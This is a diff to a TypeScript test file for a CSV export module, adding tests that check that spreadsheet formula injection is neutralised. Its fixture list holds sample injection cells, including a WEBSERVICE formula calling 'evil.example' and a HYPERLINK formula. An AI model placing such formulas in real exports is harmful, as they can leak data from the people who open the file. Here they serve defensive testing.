@@ -1,7 +1,17 @@
 import type { Readable } from 'node:stream';
 import { buffer } from 'node:stream/consumers';
 import { describe, expect, it } from 'vitest';
-import { byDescendingId, byDescendingIdRanges, csvLine, csvStream, neutralizeFormula, type CsvColumn } from './csv-export.js';
+import {
+  byDescendingId,
+  byDescendingIdRanges,
+  csvLine,
+  csvLinesStream,
+  csvStream,
+  neutralizeFormula,
+  neutralizeQuotedLine,
+  quotedFields,
+  type CsvColumn,
+} from './csv-export.js';
 
 // Buffer, not stream/consumers' text(): that one's TextDecoder drops the byte-order mark.
 const text = async (stream: Readable) => (await buffer(stream)).toString('utf8');
@@ -18,7 +28,7 @@ const COLUMNS: CsvColumn<Row>[] = [
   { header: 'Note', value: (row) => row.note },
 ];
 
-async function* batchesOf(...batches: Row[][]) {
+async function* batchesOf<Item>(...batches: Item[][]) {
   for (const batch of batches) yield batch;
 }
 
@@ -74,6 +84,84 @@ describe('csvStream', () => {
       throw new Error('database went away');
     }
     await expect(text(csvStream(COLUMNS, failing()))).rejects.toThrow('database went away');
+  });
+});
+
+/** A line as csvLineSql has the database write it: every field quoted, quotes doubled, nothing neutralised. */
+const quotedLine = (fields: readonly string[]) => fields.map((field) => `"${field.replaceAll('"', '""')}"`).join(',');
+
+/** Every value the formula rules treat specially, and look-alikes that must stay as they are. */
+const CELLS = [
+  '=HYPERLINK("http://x")',
+  '+1 555 0100',
+  '-2+3 pallets',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  'Rate sheet;=WEBSERVICE("https://evil.example")',
+  'a,@SUM(A1)',
+  'line one\n+cmd',
+  'line one\r\n-2+3',
+  'say "=1"',
+  '""=',
+  '"',
+  '-200.00',
+  '12.34',
+  'plain text',
+  'Suite 5, 2nd floor',
+  'a - b',
+  'x=y',
+  '2026-03-04T05:06:07.089Z',
+  '',
+];
+
+describe('neutralizeQuotedLine', () => {
+  it('writes every pair of cells as csvLine of the neutralised cells does', () => {
+    for (const first of CELLS) {
+      for (const second of CELLS) {
+        const fields = ['SR-1', first, 'middle', second];
+        expect({ fields, line: neutralizeQuotedLine(quotedLine(fields)) }).toEqual({
+          fields,
+          line: csvLine(fields.map(neutralizeFormula)).slice(0, -2),
+        });
+      }
+    }
+  });
+
+  it('returns a line without a possible formula start as it is', () => {
+    const line = quotedLine(['SR-1', '2026-03-04T05:06:07.089Z', 'Suite 5, 2nd floor', 'a - b', '']);
+    expect(neutralizeQuotedLine(line)).toBe(line);
+  });
+});
+
+describe('quotedFields', () => {
+  it('reads back the fields of a quoted line, quotes undoubled', () => {
+    expect(quotedFields('"a","b ""c""","","d,e","""","x\ny"')).toEqual(['a', 'b "c"', '', 'd,e', '"', 'x\ny']);
+  });
+
+  it.each(['a,"b"', '"a",b', '"a"b', '"a', '"a",', ''])('refuses %j, which the database never writes', (line) => {
+    expect(() => quotedFields(line)).toThrow(/CSV line/);
+  });
+});
+
+describe('csvLinesStream', () => {
+  it('writes the byte-order mark, the header, then each line neutralised and ended with CRLF', async () => {
+    const csv = await text(csvLinesStream(['ID', 'Name'], batchesOf([{ line: '"2","=1+1"' }], [{ line: '"1","Bo"' }])));
+    expect(csv).toBe(`\ufeff"ID","Name"\r\n"2","'=1+1"\r\n"1","Bo"\r\n`);
+  });
+
+  it('sends a big export in pieces, losing and repeating nothing', async () => {
+    const lines = Array.from({ length: 3_000 }, (_, index) => ({ line: quotedLine([String(index), 'x'.repeat(index % 100)]) }));
+    const pieces: Buffer[] = [];
+    for await (const piece of csvLinesStream(['ID', 'Text'], batchesOf(lines.slice(0, 1_000), lines.slice(1_000)))) {
+      pieces.push(piece as Buffer);
+    }
+    expect(pieces.length).toBeGreaterThan(2);
+    expect(Buffer.concat(pieces).toString('utf8')).toBe(`\ufeff"ID","Text"\r\n${lines.map(({ line }) => `${line}\r\n`).join('')}`);
+  });
+
+  it('fails the stream when a line is not one the database writes', async () => {
+    await expect(text(csvLinesStream(['ID'], batchesOf([{ line: '=1,"a"' }])))).rejects.toThrow(/CSV line/);
   });
 });
 
